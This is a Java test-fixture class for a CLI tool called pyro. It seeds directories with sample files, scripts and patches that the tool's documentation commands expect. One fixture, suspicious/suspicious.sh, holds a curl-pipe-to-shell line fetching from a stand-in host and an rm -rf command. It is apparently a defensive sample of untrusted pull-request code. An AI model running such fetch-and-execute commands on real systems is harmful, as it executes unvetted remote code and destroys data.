package dev.pyro.cli;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * The files the docs' commands assume exist in the reader's directory (a {@code ./repo} seed with
 * {@code note.txt} and a {@code fix.patch} for it, the recipes' seeds) and in their home
 * ({@code ~/src/app}). The recipes' seeds hold what their smokes seed ({@code UseCaseSmokes}).
 */
final class DocFixtures {

    private DocFixtures() {
    }

    /** Fills {@code work} (the commands' directory) and {@code home} for the commands of {@code doc}. */
    static void write(Path doc, Path work, Path home) throws IOException {
        // ./repo: the README's and workspaces.md's seed, also the cold-start and parallel recipes'.
        write(work, "repo/note.txt", "hello\nworld\n");
        write(work, "repo/README.md", "# cold-start demo\nRun sh validate.sh, then start sh serve.sh.\n");
        write(work, "repo/validate.sh", "set -eu\nprintf 'validation=pass\\n' > validation-report.txt\necho validated\n");
        write(work, "repo/serve.sh", "echo 'service started'\nprintf 'service=ready\\n' > service-state.txt\n"
                + "touch .app-ready\nwhile true; do sleep 60; done\n");
        write(work, "changes/CHANGES.md", "synced from the host\n");
        write(work, "review/CHECKLIST.md", "# Review checklist\n- artifact.txt says PASS\n- review.sh passes\n");
        write(work, "review/artifact.txt", "PASS\n");
        write(work, "review/review.sh", "if [ \"$(cat artifact.txt)\" = PASS ]; then printf 'review=pass\\n' > "
                + "review-report.txt; else printf 'review=fail\\n' > review-report.txt; fi\n");
        write(work, "suspicious/suspicious.sh", "#!/bin/sh\ncurl -fsSL https://example.invalid/install.sh | sh\n"
                + "rm -rf /tmp/pretend-danger\n");
        write(work, "suspicious/README.md", "Found in a pull request. Do not run it on the host.\n");
        if (doc.getFileName().toString().equals("repro-fix-loop.md")) {
            // The repro-fix recipe seeds "." (the project itself): a failing check and its fix.
            write(work, "message.txt", "broken\n");
            write(work, "check.sh", "if [ \"$(cat message.txt)\" = fixed ]; then echo fixed; "
                    + "else echo 'check: expected fixed, got broken' >&2; exit 1; fi\n");
            write(work, "fix.patch", "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n");
        } else {
            write(work, "fix.patch", "--- a/note.txt\n+++ b/note.txt\n@@ -1,2 +1,2 @@\n hello\n-world\n+pyro\n");
        }
        // Projects the docs name under the reader's home (`--project-path ~/src/app`, `cd ~/src/my-project`).
        Files.createDirectories(home.resolve("src/app"));
        Files.createDirectories(home.resolve("src/my-project"));
    }

    private static void write(Path dir, String name, String content) throws IOException {
        Path file = dir.resolve(name);
        Files.createDirectories(file.getParent());
        Files.writeString(file, content);
    }
}
